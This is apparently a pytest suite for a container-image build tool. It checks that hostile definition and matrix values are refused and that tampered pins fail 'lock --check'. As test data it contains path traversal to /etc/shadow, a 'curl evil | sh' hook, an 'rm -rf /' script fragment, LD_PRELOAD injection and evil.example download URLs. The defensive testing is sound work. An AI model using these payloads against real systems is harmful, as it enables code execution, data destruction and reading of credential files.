"""Hostile definitions (build/*.json) and matrices (engines/*.toml), as they could arrive in a
pull request (issue 11, items 3, 10, 11 and 12 for definition input).

Every case runs the real CLI on a scratch checkout (`engines_copy`) and asserts what a user sees:
an absurd value is refused before any I/O with exit 2 and a message naming the file, the image,
the input or layer, the field and the rule; a definition edited by hand so that it still parses
(layers swapped, a pin replaced, ids recomputed as an attacker would) fails `lock --check`
naming the image and the input. No case may print a Python traceback.

The property-based test at the end mutates the committed definitions field by field (hypothesis)
and validates them in-process: only documented errors, never an exception of another kind.
"""

from __future__ import annotations

import copy
import json
from pathlib import Path
from typing import Any, Callable

import pytest


from enginefab.core import canonical
from tests.conftest import ROOT, cli, enginefab, examples, session_for

DEMO = "demo-pytorch-x86_64"
MODEL = "demo-model-x86_64"  # derived from DEMO: stale whenever DEMO's definition changes
KUNGFU = "kungfu-tf1.13"  # has a url input with dest/unpack/strip (go) and run steps


def committed(alias: str = DEMO) -> dict:
    return json.loads((ROOT / "build" / f"{alias}.json").read_bytes())


def write(proj: Path, d: dict, *, alias: str = DEMO, replan: bool = False) -> Path:
    """Write `d` as build/<alias>.json in canonical form; `replan`: recompute the layer ids (and
    order) with the planner first, as someone hiding an edit would."""
    if replan:
        from enginefab.core.definition import Definition
        from enginefab.lock.layering import parts_of, plan_image

        defn = Definition.model_validate(d)
        d = json.loads(defn.model_copy(update={"layers": plan_image(parts_of(defn))}).to_json())
    path = proj / "build" / f"{alias}.json"
    path.write_bytes(canonical.dumps_pretty(d))
    return path


def no_traceback(p) -> None:
    assert "Traceback" not in p.stderr + p.stdout, p.stderr[-2000:]


def refused(p) -> dict:
    """An error the CLI reported: exit 2, JSON on stdout, no traceback."""
    no_traceback(p)
    assert p.returncode == 2, (p.returncode, p.stdout[-1500:], p.stderr[-1500:])
    err = json.loads(p.stdout)
    assert err["fix"], err
    return err


def lock_check(proj: Path, env: dict | None = None):
    return cli("lock", "--check", "--json", cwd=proj, env=env, timeout=120)


def check_here(proj: Path, cache: Path | None = None) -> tuple[int, Any]:
    """`lock --check --json` in-process (the same calls the CLI makes, without a Python start per
    case): (2, the error) or (0 or 1, the problems). Any other exception fails the test."""
    from enginefab.core.errors import EnginefabError
    from enginefab.engines.matrix import load
    from enginefab.lock import check

    try:
        problems, _ = check.check(load(proj), cache=cache)
    except EnginefabError as e:
        return 2, e.as_dict()
    return (1 if problems else 0), problems


def as_written(field: str) -> str:
    """A pydantic location as the matrix errors say it: the image named apart, indexes 1-based
    (image.0.files.0.sha256 → files[1].sha256)."""
    parts = field.split(".")
    if parts[:1] == ["image"] and len(parts) > 2 and parts[1].isdigit():
        parts = parts[2:]
    out = ""
    for p in parts:
        out += f"[{int(p) + 1}]" if p.isdigit() else (f".{p}" if out else p)
    return out


def refused_here(proj: Path) -> dict:
    code, err = check_here(proj)
    assert code == 2, err
    assert err["fix"], err
    return err


def layer(d: dict, prefix: str) -> dict:
    return next(la for la in d["layers"] if la["id"].startswith(prefix))


def inp(d: dict, name: str) -> dict:
    return next(i for la in d["layers"] for i in la["inputs"] if i["name"] == name)


def home(d: dict) -> dict:
    return next(f for f in layer(d, "config/users")["files"] if f["path"] == "/home/ma-user")


# -- definitions: absurd values are refused before any I/O (items 3, 11, 12) -------------------

Edit = Callable[[dict], Any]

#: (case, alias, edit, the field the message names, a phrase of the rule)
DEFINITION_CASES: list[tuple[str, str, Edit, str, str]] = [
    ("sha256 is a path", KUNGFU, lambda d: inp(d, "go").update(sha256="../../../../etc/shadow"),
     ".sha256", "64 lowercase hex"),
    ("sha256 in upper case", DEMO, lambda d: inp(d, "torch").update(sha256=inp(d, "torch")["sha256"].upper()),
     ".sha256", "64 lowercase hex"),
    ("sha256 one digit short", DEMO, lambda d: inp(d, "numpy").update(sha256=inp(d, "numpy")["sha256"][:63]),
     ".sha256", "64 lowercase hex"),
    ("negative size", DEMO, lambda d: inp(d, "torch").update(size=-1), ".size", "0…2**50"),
    ("size beyond any file", DEMO, lambda d: inp(d, "torch").update(size=10**30), ".size", "0…2**50"),
    ("file mode -1 (OverflowError before)", DEMO, lambda d: home(d).update(mode=-1), ".mode", "0o7777"),
    ("file mode above 0o7777", DEMO, lambda d: home(d).update(mode=0o10000), ".mode", "0o7777"),
    ("file mode as a string", DEMO, lambda d: home(d).update(mode="0644"), ".mode", "0o7777"),
    ("file mode as a boolean", DEMO, lambda d: home(d).update(mode=True), ".mode", "0o7777"),
    ("uid -1", DEMO, lambda d: home(d).update(uid=-1), ".uid", "0…2147483647"),
    ("gid 2**31", DEMO, lambda d: home(d).update(gid=2**31), ".gid", "0…2147483647"),
    ("negative strip_components", KUNGFU, lambda d: inp(d, "go").update(strip_components=-1),
     ".strip_components", "0…64"),
    ("dest climbs out", KUNGFU, lambda d: inp(d, "go").update(dest="/../../.."), ".dest", "no '..'"),
    ("dest relative", KUNGFU, lambda d: inp(d, "go").update(dest="usr/local"), ".dest", "absolute"),
    ("dest not normalized", KUNGFU, lambda d: inp(d, "go").update(dest="/usr//local/"), ".dest",
     "write '/usr/local'"),
    ("a file entry that is a whiteout", DEMO, lambda d: home(d).update(path="/etc/.wh.passwd"), ".path",
     "whiteout"),
    ("url of another scheme", KUNGFU, lambda d: inp(d, "go").update(url="ftp://ftp.example/go.tar.gz"), ".url",
     "https://"),
    ("url with a password", DEMO, lambda d: inp(d, "torch").update(url="https://u:pw@files.pythonhosted.org/t.whl"),
     ".url", "no user or password"),
    ("10,000-character alias", DEMO, lambda d: d["image"].update(alias="a" * 10_000), "image.alias", "1-63"),
    ("alias that is a path", DEMO, lambda d: d["image"].update(alias="../../x"), "image.alias", "1-63"),
    ("input name that is a path", KUNGFU, lambda d: inp(d, "go").update(name="../../../tmp/x"), ".name",
     "a name is"),
    ("file name that is a path", KUNGFU, lambda d: inp(d, "go").update(filename="../go.tar.gz"), ".filename",
     "one path component"),
    ("10,000-character layer id", DEMO, lambda d: layer(d, "wheel/torch").update(id="w" * 10_000), ".id",
     "1-255"),
    ("user that breaks /etc/passwd", DEMO, lambda d: d["config"].update(user="root:x:0:0::/:/bin/sh"),
     "config.user", "uid:gid"),
    ("environment name with '='", DEMO, lambda d: d["config"]["env"].update({"LD_PRELOAD=/x": "1"}), "config.env",
     "environment variable name"),
    ("source_date_epoch -1", DEMO, lambda d: d.update(source_date_epoch=-1), "source_date_epoch", "8**11"),
    ("unknown key", DEMO, lambda d: inp(d, "torch").update(post_install="curl evil | sh"), ".post_install",
     "unknown key"),
    ("NUL in a script", KUNGFU, lambda d: inp(d, "build-kungfu").update(script="true\x00rm -rf /"), ".script",
     "control character"),
]


@pytest.mark.parametrize("case,alias,edit,field,rule", DEFINITION_CASES, ids=[c[0] for c in DEFINITION_CASES])
def test_an_absurd_definition_value_is_refused_naming_file_image_field_and_rule(engines_copy, case, alias, edit,
                                                                               field, rule):
    d = committed(alias)
    edit(d)
    write(engines_copy, d, alias=alias)
    err = refused_here(engines_copy)
    assert f"build/{alias}.json" in err["error"], err
    assert f"field " in err["error"] and field in err["error"], err
    assert rule in err["error"], err
    assert len(err["error"]) < 600, "the hostile value is echoed in full"
    if "alias" not in field:
        assert err["image"] == alias
    assert "enginefab lock" in err["fix"]


def test_a_sha256_that_is_a_path_builds_nothing_and_touches_no_store(tmp_path):
    """Item 3: `"sha256": "../../../../etc/shadow"` on an archives input used to put the host's
    shadow file into the layer. The definition is refused when read: no store, no layout."""
    d = committed(KUNGFU)
    inp(d, "go").update(sha256="../../../../etc/shadow")
    path = tmp_path / "hostile.json"
    path.write_bytes(canonical.dumps_pretty(d))
    store, out = tmp_path / "store", tmp_path / "out"
    err = refused(cli("build", str(path), "--store", str(store), "--out", str(out), "--json", timeout=120))
    assert str(path) in err["error"] and "sha256" in err["error"] and err["input"] == "url:'go'"
    assert not out.exists()
    assert not [f for f in store.rglob("*") if not f.is_dir()], "something was fetched or built"


@pytest.mark.parametrize("raw", [b"", b"{", b"[]", b"null", b"[" * 100_000, b"\xff\xfe not utf-8",
                                 json.dumps({"schema": "enginefab.definition/v1"}).encode()],
                         ids=["empty", "truncated", "a list", "null", "deeply nested", "not utf-8", "no fields"])
def test_a_definition_that_is_not_one_is_refused(engines_copy, raw):
    (engines_copy / "build" / f"{DEMO}.json").write_bytes(raw)
    err = refused_here(engines_copy)
    assert f"build/{DEMO}.json" in err["error"]


def test_the_cli_refuses_them_with_exit_2_and_no_traceback(engines_copy):
    """The issue's two crashes through the real CLI: file mode -1 (OverflowError at build) and a
    10,000-character alias (lock --check); show reads the same way."""
    d = committed()
    home(d).update(mode=-1)
    write(engines_copy, d)
    for argv in (("lock", "--check", "--json"), ("show", DEMO, "--json")):
        err = refused(cli(*argv, cwd=engines_copy, timeout=120))
        assert "field layers." in err["error"] and ".mode: -1: mode is" in err["error"] and err["image"] == DEMO
        assert err["input"] == "file '/home/ma-user'"
    d = committed()
    d["image"]["alias"] = "a" * 10_000
    write(engines_copy, d)
    p = cli("lock", "--check", cwd=engines_copy, timeout=120)  # the human-readable form
    no_traceback(p)
    assert p.returncode == 2 and "image.alias" in p.stderr and "1-63 characters" in p.stderr
    assert len(p.stderr) < 1500 and "fix:" in p.stderr


# -- lock --check is an integrity check (item 10) -----------------------------------------------


def problems(proj: Path, cache: Path | None = None) -> list[str]:
    code, found = check_here(proj, cache)
    assert code == 1 and found, found
    return found


def test_lock_check_fails_a_hand_edit_through_the_cli(engines_copy):
    """Swapped layers (item 10), through the CLI: exit 1, the image and the fix."""
    d = committed()
    ws = [i for i, la in enumerate(d["layers"]) if la["kind"] == "wheels"]
    d["layers"][ws[0]], d["layers"][ws[1]] = d["layers"][ws[1]], d["layers"][ws[0]]
    write(engines_copy, d)
    p = lock_check(engines_copy)
    no_traceback(p)
    res = json.loads(p.stdout)
    assert p.returncode == 1 and not res["ok"]
    assert [x for x in res["problems"] if x.startswith(f"{DEMO}: ") and "out of the planner's order" in x]


def test_swapped_layers_fail_lock_check(engines_copy):
    d = committed()
    ws = [i for i, la in enumerate(d["layers"]) if la["kind"] == "wheels"]
    d["layers"][ws[0]], d["layers"][ws[1]] = d["layers"][ws[1]], d["layers"][ws[0]]
    write(engines_copy, d)
    p, child = problems(engines_copy)
    assert p.startswith(f"{DEMO}: ") and "out of the planner's order" in p and f"enginefab lock {DEMO}" in p
    assert child.startswith(f"{MODEL}: parent {DEMO} changed")  # the image derived from it is stale


def test_a_pypi_pin_replaced_in_one_definition_stands_out_against_the_other(engines_copy):
    """typing-extensions is pinned by both demos: replacing its sha256 in one (ids recomputed so
    the planner agrees) leaves two hashes for one file."""
    d = committed()
    old = inp(d, "typing-extensions")["sha256"]
    inp(d, "typing-extensions")["sha256"] = "ab" * 32
    write(engines_copy, d, replan=True)
    found = problems(engines_copy)
    assert any("input wheel:typing-extensions==" in p and "ab" * 32 in p and old in p for p in found), found
    assert all(p.startswith(("demo-pytorch-x86_64: ", "demo-pytorch-aarch64: ", f"{MODEL}: parent {DEMO} changed"))
               for p in found)


@pytest.mark.network
def test_a_pypi_pin_swapped_for_another_cached_file_is_named(engines_copy, tmp_path):
    """The download cache is content-addressed, so a pin whose sha256 is replaced by the hash of
    another file the cache holds would build that file (another digest). Where the cache holds
    the bytes, lock --check reads what they are: the wrong size, or another project's wheel."""
    from enginefab.transport import download

    d = committed()
    te = inp(d, "typing-extensions")
    cache = tmp_path / "downloads"
    download.fetch(download.Want(url=te["url"], sha256=te["sha256"], size=te["size"]), session_for(downloads=cache))

    numpy = inp(d, "numpy")
    numpy["sha256"] = te["sha256"]  # the size still says numpy's
    write(engines_copy, d, replan=True)
    found = problems(engines_copy, cache)
    assert any(p.startswith(f"{DEMO}: layer wheel/numpy-") and "input wheel:numpy==" in p
               and f"holds {te['size']} bytes" in p for p in found), found

    numpy["size"] = te["size"]  # size edited too: the bytes are another project's wheel
    write(engines_copy, d, replan=True)
    found = problems(engines_copy, cache)
    assert any("input wheel:numpy==" in p and "the wheel of typing-extensions 4.16.0" in p for p in found), found


def test_an_owner_changed_with_the_ids_recomputed_fails_lock_check(engines_copy):
    d = committed()
    home(d)["uid"] = 0  # the home directory handed to root
    write(engines_copy, d, replan=True)
    found = problems(engines_copy)
    assert any(".files[/home/ma-user].uid: 0 → 1000" in p for p in found), found


@pytest.mark.parametrize("edit,phrase", [
    (lambda d: d["config"].update(user="0:0"), 'config.user: "0:0" → "1000:100"'),
    (lambda d: d["config"]["env"].update(LD_PRELOAD="/tmp/x.so"), "config.env.LD_PRELOAD"),
    (lambda d: d["checks"]["runtime"][0].update(smoke="print('ok')"), "checks.runtime"),
    (lambda d: d["image"].update(os_version="12"), 'image.os_version: "12" → "11"'),
], ids=["user root", "LD_PRELOAD", "smoke test", "identity"])
def test_what_engines_states_must_match(engines_copy, edit, phrase):
    d = committed()
    edit(d)
    write(engines_copy, d)
    found = problems(engines_copy)
    assert any(p.startswith(f"{DEMO}: ") and phrase in p and f"enginefab lock {DEMO}" in p for p in found), found


@pytest.mark.parametrize("edit,phrase", [
    (lambda d: inp(d, "torch").update(url="https://evil.example/torch-1.8.0-cp39-cp39-manylinux1_x86_64.whl"),
     "is not on the package index"),
    (lambda d: inp(d, "torch").update(filename="torch-1.9.0-cp39-cp39-manylinux1_x86_64.whl"),
     "does not end in its file name"),
    (lambda d: inp(d, "torch").update(version="1.9.0"), "not torch 1.9.0"),
    (lambda d: inp(d, "libgomp1").update(url="http://evil.example/debian/pool/main/g/gcc-10/libgomp1.deb"),
     "is not under the image's apt repositories"),
    (lambda d: inp(d, "libgomp1").update(version="99"), "control field Version"),
], ids=["wheel from another host", "wheel file renamed", "wheel version edited", "deb from another host",
        "deb version edited"])
def test_an_index_pin_that_contradicts_itself_fails_lock_check(engines_copy, edit, phrase):
    d = committed()
    edit(d)
    write(engines_copy, d, replan=True)
    found = problems(engines_copy)
    assert any(p.startswith(f"{DEMO}: input ") and phrase in p for p in found), found


def test_another_images_definition_under_this_name_fails(engines_copy):
    d = committed("demo-pytorch-aarch64")
    write(engines_copy, d, alias=DEMO)
    found = problems(engines_copy)
    assert any("is the definition of demo-pytorch-aarch64" in p for p in found), found


# -- the matrix: validated at load time (items 3, 11) -------------------------------------------

#: (case, file, old text, new text, the field the message names, a phrase of the rule)
MATRIX_CASES = [
    ("uid -1", "platforms.toml", "uid = 1000", "uid = -1", "conventions.uid", "0…2147483647"),
    ("gid 2**31", "platforms.toml", "gid = 100", "gid = 2147483648", "conventions.gid", "0…2147483647"),
    ("user that breaks /etc/passwd", "platforms.toml", 'user = "ma-user"', 'user = "x:0:0::/root:/bin/sh\\nroot"',
     "conventions.user", "user or group name"),
    ("relative home", "platforms.toml", 'home = "/home/ma-user"', 'home = "home/ma-user"', "conventions.home",
     "absolute"),
    ("apt over ftp", "platforms.toml", 'url = "https://deb.debian.org/debian"', 'url = "ftp://deb.debian.org/debian"',
     "apt.", "is not an https"),
    ("negative strip_components", "kungfu.toml", 'name = "go"', 'name = "go"\nstrip_components = -1',
     "image.0.files.0.strip_components", "0…64"),
    ("dest that climbs out", "kungfu.toml", 'name = "go"', 'name = "go"\ndest = "/../../.."',
     "image.0.files.0.dest", "no '..'"),
    ("sha256 that is a path", "kungfu.toml", 'sha256 = "68a2297eb099d1a76097905a2ce334e3155004ec08cdea85f24527be3c48e856"',
     'sha256 = "../../../../etc/shadow"', "image.0.files.0.sha256", "64 lowercase hex"),
    ("url of a host file", "kungfu.toml", 'url = "https://dl.google.com/go/go1.13.linux-amd64.tar.gz"',
     'url = "file:///etc/shadow"', "image.0.files.0.url", "https://"),
    ("10,000-character alias", "kungfu.toml", 'alias = "kungfu-tf1.13"', 'alias = "' + "k" * 10_000 + '"',
     "image.0.alias", "1-63"),
    ("negative size", "mindspore.toml", 'url = "https://ms-release', 'size = -1\nurl = "https://ms-release',
     "wheels.0.size", "0…2**50"),
    ("digest that is a path", "platforms.toml", None, None, "digest", "sha256: and 64"),
    ("environment name with a space", "kungfu.toml", 'description = "KungFu', 'env = {"A B" = "1"}\ndescription = "KungFu',
     "image.0.env", "environment variable name"),
]


@pytest.mark.parametrize("case,file,old,new,field,rule", MATRIX_CASES, ids=[c[0] for c in MATRIX_CASES])
def test_an_absurd_matrix_value_is_refused_at_load(engines_copy, case, file, old, new, field, rule):
    path = engines_copy / "engines" / file
    text = path.read_text()
    if old is None:  # the first pinned digest of the file
        at = text.index('digest = "sha256:') + len('digest = "')
        text = text[:at] + "sha256:../../../etc" + text[at + 71:]
    else:
        assert old in text, old
        text = text.replace(old, new, 1)
    path.write_text(text)
    err = refused_here(engines_copy)
    assert err["error"].startswith(f"engines/{file}:") and as_written(field) in err["error"], err
    assert rule in err["error"] and rule in err["fix"], err
    assert len(err["error"]) < 600
    if file != "platforms.toml" and "alias" not in field:
        assert err["image"], err


def test_the_issues_matrix_cases_through_the_cli(engines_copy):
    """uid -1 used to reach the image config and /etc/passwd; a 10,000-character alias crashed
    `lock --check` (File name too long)."""
    toml = engines_copy / "engines" / "platforms.toml"
    toml.write_text(toml.read_text().replace("uid = 1000", "uid = -1", 1))
    err = refused(cli("list", "--json", cwd=engines_copy, timeout=120))
    assert err["error"].startswith("engines/platforms.toml:"), err  # then the line, 1-based
    assert "field conventions.uid: -1: uid is an integer in 0…2147483647" in err["error"], err
    toml.write_text(toml.read_text().replace("uid = -1", "uid = 1000", 1))
    kf = engines_copy / "engines" / "kungfu.toml"
    kf.write_text(kf.read_text().replace('alias = "kungfu-tf1.13"', 'alias = "' + "k" * 10_000 + '"'))
    p = cli("lock", "--check", "--json", cwd=engines_copy, timeout=120)
    res = json.loads(p.stdout)  # a broken image fails the check and is listed, the others checked
    assert p.returncode == 1 and "Traceback" not in p.stderr and res["invalid"] == ["k" * 10_000], p.stderr
    (problem,) = [x for x in res["problems"] if x.startswith("engines/kungfu.toml:")]
    assert "field alias: 'kkkk" in problem and "1-63 characters" in problem and len(problem) < 600


def test_a_matrix_file_that_is_not_utf8_is_refused(engines_copy):
    (engines_copy / "engines" / "kungfu.toml").write_bytes(b"[engine]\nname = \"\xff\xfe\"\n")
    err = refused_here(engines_copy)
    assert "kungfu.toml" in err["error"] and "UTF-8" in err["error"]


# -- property: no traceback for any value in any field (item 12) --------------------------------

_HOSTILE_VALUES = [
    None, True, False, 0, -1, 1, 2**31, 2**63, -(2**63), 10**40, 0.5, float("inf"), "", " ", "..", "/", "/..",
    "../../etc/shadow", "a" * 10_000, "\x00", "\n", "é", "\u202e", "sha256:", "0" * 64, "A" * 64, "/tmp",
    "https://x/y", "file:///etc/passwd", [], {}, [None], {"": ""}, {"a": {"b": []}},
]


def _paths(node: Any, at: tuple = ()) -> list[tuple]:
    out = [at]
    if isinstance(node, dict):
        for k, v in node.items():
            out += _paths(v, at + (k,))
    elif isinstance(node, list):
        for i, v in enumerate(node[:6]):  # the first items of long lists are enough
            out += _paths(v, at + (i,))
    return out


def _validate_in_process(raw: bytes, alias: str, m) -> None:
    """What `lock --check` does with one definition's bytes: parse, plan, derive, check the pins."""
    from enginefab.core.definition import parse_definition
    from enginefab.lock import check, pins

    defn = parse_definition(raw, f"build/{alias}.json")
    img = m.get(alias)
    check._planned_mismatches(defn)
    if defn.image.alias == alias:
        check._declared_mismatches(defn, img, m)
        check._derived_mismatches(defn, raw, img, m)
        pins.incoherent({alias: defn}, m, None)


@pytest.mark.parametrize("n_examples", examples(2000, 100))
def test_no_traceback_for_any_value_in_any_definition_field(matrix, n_examples):
    """Hypothesis replaces one, two or three fields of a committed definition with hostile values
    (or deletes them); validation ends in a documented error (EnginefabError) or succeeds.
    (2000 examples in the full suite, 100 in the unit tier.)"""
    from hypothesis import HealthCheck, given, settings
    from hypothesis import strategies as st

    from enginefab.core.errors import EnginefabError

    bases = {a: committed(a) for a in (DEMO, KUNGFU, "mindspore-cann5.0.2")}
    paths = {a: _paths(d)[1:] for a, d in bases.items()}
    value = st.one_of(st.sampled_from(_HOSTILE_VALUES), st.integers(), st.text(max_size=80),
                      st.text(alphabet="abc./-_:@ \x00", max_size=300))
    edit = st.tuples(st.integers(min_value=0), st.booleans(), value)
    outcomes = {"refused": 0, "accepted": 0}

    @settings(max_examples=n_examples, deadline=None, derandomize=True,
              suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
    @given(st.sampled_from(sorted(bases)), st.lists(edit, min_size=1, max_size=3))
    def run(alias, edits):
        d = copy.deepcopy(bases[alias])
        for n, delete, v in edits:
            at = paths[alias][n % len(paths[alias])]
            parent = d
            try:
                for k in at[:-1]:
                    parent = parent[k]
                if delete and isinstance(parent, dict):
                    parent.pop(at[-1], None)
                else:
                    parent[at[-1]] = v
            except (KeyError, IndexError, TypeError):
                continue  # an earlier edit changed the shape
        try:
            raw = canonical.dumps_pretty(d)
        except (TypeError, ValueError):  # not JSON (inf): what a file could never hold
            raw = json.dumps(d, allow_nan=True).encode()
        try:
            _validate_in_process(raw, alias, matrix)
            outcomes["accepted"] += 1
        except EnginefabError as e:
            assert e.message and e.fix, e
            outcomes["refused"] += 1

    run()
    print(outcomes)
    assert outcomes["refused"] > n_examples // 2 and outcomes["accepted"] > n_examples // 200, outcomes


@pytest.mark.network
def test_lock_verify_names_a_pypi_pin_only_upstream_can_refute(engines_copy):
    """aarch64 torch 1.8.0 is pinned by one definition only, so a replaced sha256 (ids
    recomputed, bytes not in any cache) passes the offline check; `lock --verify` asks PyPI."""
    alias = "demo-pytorch-aarch64"
    d = committed(alias)
    real = inp(d, "torch")["sha256"]
    inp(d, "torch")["sha256"] = "ab" * 32
    before = write(engines_copy, d, alias=alias, replan=True).read_bytes()
    assert check_here(engines_copy) == (0, [])  # what offline cannot know
    p = enginefab("lock", "--verify", alias, "--json", cwd=engines_copy, timeout=300)
    no_traceback(p)
    res = json.loads(p.stdout)
    assert p.returncode == 1 and not res["ok"]
    assert any(x.startswith(f"{alias}: ") and ".inputs[torch].sha256" in x and "ab" * 32 in x and real in x
               for x in res["problems"]), res["problems"]
    assert (engines_copy / "build" / f"{alias}.json").read_bytes() == before, "verify writes nothing"



@pytest.mark.parametrize("n_examples", examples(500, 50))
def test_no_traceback_for_any_value_in_any_matrix_field(n_examples):
    """The same for engines/*.toml: one or two fields of the parsed TOML replaced; loading the
    matrix (models, then the rules) and `lock --check` end in a documented error or succeed.
    (The parsed tables go to `Matrix.from_data` in place of files: there is no TOML writer here,
    and TOML syntax errors are tomllib's, tested above. 500 examples in the full suite, 50 in
    the unit tier.)"""
    import tomllib

    from hypothesis import HealthCheck, given, settings
    from hypothesis import strategies as st

    from enginefab.core.errors import EnginefabError
    from enginefab.engines.matrix import Matrix
    from enginefab.lock import check

    tables = {p.name: tomllib.loads(p.read_text()) for p in sorted((ROOT / "engines").glob("*.toml"))}
    paths = {f: _paths(t)[1:] for f, t in tables.items()}
    value = st.one_of(st.sampled_from(_HOSTILE_VALUES + ["1.8.0", "cpu", "x86_64", "cuda10.2", "3.9", ["a"]]),
                      st.integers(), st.text(max_size=40))
    outcomes = {"refused": 0, "accepted": 0}

    @settings(max_examples=n_examples, deadline=None, derandomize=True, suppress_health_check=[HealthCheck.too_slow])
    @given(st.lists(st.tuples(st.sampled_from(sorted(tables)), st.integers(min_value=0), value), min_size=1,
                    max_size=2))
    def run(edits):
        data = copy.deepcopy(tables)
        for file, n, v in edits:
            at = paths[file][n % len(paths[file])]
            parent = data[file]
            try:
                for k in at[:-1]:
                    parent = parent[k]
                parent[at[-1]] = v
            except (KeyError, IndexError, TypeError):
                continue
        try:
            check.check(Matrix.from_data(ROOT, data))
            outcomes["accepted"] += 1
        except EnginefabError as e:
            assert e.message and e.fix, e
            outcomes["refused"] += 1

    run()
    assert outcomes["refused"] > n_examples // 2 and outcomes["accepted"] > n_examples // 50, outcomes


def test_a_framework_version_that_is_no_version_is_refused(engines_copy):
    """Found by trying: a framework_version that is not PEP 440 raised InvalidVersion in the rules."""
    path = engines_copy / "engines" / "horovod.toml"
    text = path.read_text()
    at = text.index("framework_version = ")
    end = text.index("\n", at)
    path.write_text(text[:at] + 'framework_version = "aarch64"' + text[end:])
    err = refused_here(engines_copy)
    assert "engines/horovod.toml:" in err["error"] and "field framework_version: " in err["error"], err
    assert "'aarch64'" in err["error"], err
    assert err["image"].startswith("horovod-tensorflow-cuda10.1") and err["fix"], err


@pytest.mark.parametrize("pin,field,rule", [
    ('sha256 = "../../../../etc/shadow"', "files.EulerOS-2.8-aarch64.tar.xz.sha256", "64 lowercase hex"),
    (f'sha256 = "{"a" * 64}"\nsize = "big"', "files.EulerOS-2.8-aarch64.tar.xz.size", "0…2**50"),
    (f'sha256 = "{"a" * 64}"\nsize = -5', "files.EulerOS-2.8-aarch64.tar.xz.size", "0…2**50"),
], ids=["sha256 that is a path", "size not a number", "negative size"])
def test_a_hostile_manual_pin_is_refused(engines_copy, pin, field, rule):
    """engines/manual-pins.toml (hashes recorded on first use) is validated like the rest of
    engines/: before, a path as sha256 went into the definition and a size of "big" raised ValueError."""
    (engines_copy / "engines" / "manual-pins.toml").write_text(f'[files."EulerOS-2.8-aarch64.tar.xz"]\n{pin}\n')
    err = refused_here(engines_copy)
    assert err["error"].startswith("engines/manual-pins.toml:") and rule in err["error"], err
    assert f"field {field.replace('EulerOS-2.8-aarch64.tar.xz', chr(34) + 'EulerOS-2.8-aarch64.tar.xz' + chr(34))}: " in err["error"]
    assert "manual-pins.toml" in err["fix"]


def test_nan_and_infinity_are_not_json(engines_copy):
    """Found by the property test: `Infinity` parsed into the free-form `matrix` section, then
    writing the canonical form raised ValueError inside lock --check."""
    d = committed()
    d["matrix"]["source_date_epoch"] = float("inf")
    (engines_copy / "build" / f"{DEMO}.json").write_text(json.dumps(d, allow_nan=True))
    err = refused_here(engines_copy)
    assert err["error"] == f"build/{DEMO}.json: not JSON: Infinity is not a JSON number", err
